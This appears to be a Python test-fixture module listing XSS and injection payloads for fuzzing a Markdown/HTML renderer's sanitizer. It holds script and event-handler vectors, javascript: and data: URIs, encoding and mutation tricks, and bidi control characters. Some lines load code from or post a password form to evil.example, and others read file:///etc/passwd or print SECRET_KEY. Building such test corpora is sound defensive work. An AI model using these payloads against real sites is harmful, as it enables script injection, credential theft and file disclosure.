"""Texts that try to get past the renderer: scripts, addresses, broken Markdown, controls of direction."""

from __future__ import annotations

_TAGS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<script/xss src=x>
<script\x0d\x0a>alert(1)</script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src=`x`onerror=alert(1)>
<img/src/onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src="x:x" alt="<script>alert(1)</script>">
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object type="text/x-scriptlet" data="http://evil.example/x"></object>
<embed src="javascript:alert(1)">
<embed code="http://evil.example/x.swf" allowscriptaccess=always>
<applet code=evil></applet>
<link rel=stylesheet href="http://evil.example/x.css">
<style>@import 'http://evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<p style="width:expression(alert(1))">x</p>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<form action="http://evil.example/"><input name=password></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=x onerror=alert(1)>
<video><source onerror="alert(1)"></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<table background="javascript:alert(1)"><td>x</td></table>
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a onmouseover=alert(1)>x</a>
<a onclick="alert(1)" href=#>x</a>
<a href=x target=_blank rel=opener>x</a>
<a id=x name=y class=button style=color:red>x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title>
<textarea><img src=x onerror=alert(1)></textarea>
<comment><img src=x onerror=alert(1)></comment>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
<x onclick=alert(1)>x</x>
<custom-element onmouseenter=alert(1)>x</custom-element>
<portal src="javascript:alert(1)"></portal>
<dialog open onclose=alert(1)>x</dialog>
<p>one</p><p onclick=alert(1)>two</p>
</p></div></main><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</a><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
<ſcript>alert(1)</ſcript>
<script\u200c>alert(1)</script>
<img\u200csrc=x\u200conerror=alert(1)>
{{constructor.constructor('alert(1)')()}}
{% load ui %}{{ settings.SECRET_KEY }}
${alert(1)}
""".strip("\n").split("\n")

_MARKDOWN = [
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: javascript:alert(1) "title"\n\n[text][x]',
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com "&quot; onmouseover=alert(1) &quot;")',
    "[x](https://example.com '\"><script>alert(1)</script>')",
    '[x](https://example.com" onclick="alert(1))',
    "[x](https://example.com/<script>alert(1)</script>)",
    "[<script>alert(1)</script>](https://example.com)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://evil.example/x.png)](https://example.com)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    '![x](https://evil.example/x.png "\\" onerror=\\"alert(1)")',
    "![<img src=x onerror=alert(1)>](upload:1)",
    "![x](upload:1/../../etc/passwd)",
    '![x](upload:1" onerror="alert(1))',
    '[x](post:1" onclick="alert(1))',
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/%0d%0aSet-Cookie:x)",
    "[x](https://user:password@evil.example/)",
    "[x](https://example.com@evil.example/)",
    '<https://example.com/"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<mailto:x@example.com?subject=<script>alert(1)</script>>",
    'https://example.com/"onmouseover=alert(1)',
    "https://example.com/'><script>alert(1)</script>",
    "https://example.com/<script>alert(1)</script>",
    "http://[::1",
    "https://\u202egnp.exe",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```js"><img src=x onerror=alert(1)>\nx\n```',
    "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "```python\n</span><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "``` `<img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| x |\n|:-" onclick="alert(1)|\n| y |',
    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>\n   - <img src=x onerror=alert(1)>",
    '# <script>alert(1)</script> {#x onclick="alert(1)"}',
    "@<script>alert(1)</script>",
    '@name" onclick="alert(1)',
    "@name/../../admin",
    "@javascript:alert(1)",
    "**<script>alert(1)</script>**",
    "~~<img src=x onerror=alert(1)>~~",
    "*x*<svg onload=alert(1)>*y*",
    "<a@example.com<script>alert(1)</script>>",
    "\\<script\\>alert(1)\\</script\\>",
    "&lt;img src=x onerror=alert(1)&gt;",
    '[a](b "c\nd")<script>alert(1)</script>',
    "x\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>\udfff",
    "x\u2028<script>alert(1)</script>\u2029",
]

_SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript\t:alert(1)", "\x0bjavascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "%6aavascript:alert(1)", "javascript://%0aalert(1)",
    "javascript:/*--></title></style>*/alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<b>",
    "data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "ftp://example.com/x", "blob:https://example.com/x",
    "about:blank", "view-source:https://example.com", "jar:https://x!/", "feed:javascript:alert(1)",
    "ws://example.com", "intent://x#Intent;end", "tel:+98", "sms:+98", "ms-appx:x", "upload:x", "post:x",
]  # fmt: skip
_FORMS = ["[x]({})", "![x]({})", "<{}>", "[x](<{}>)", '[x]({} "t")', "[x][r]\n\n[r]: {}", "> [x]({})", "{}"]

#: Marks, embeddings, overrides, isolates; and what is invisible in other ways.
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_PLACES = [
    "{}abc", "سلام {}دنیا", "**{}x**", "`if x {} y`", "```\n{}code\n```", "[{}x](https://example.com)",
    "[x](https://example.com/{}y)", "![{}](upload:1)", "# {}title", "| {} |\n|---|\n| {} |", "@na{}me",
]  # fmt: skip

PAYLOADS = [
    *_TAGS,
    *_MARKDOWN,
    *(form.format(scheme) for scheme in _SCHEMES for form in _FORMS),
    *(place.replace("{}", control) for control in BIDI for place in _PLACES),
    *(place.replace("{}", f"&#{ord(control)};") for control in BIDI for place in _PLACES[:4]),
]
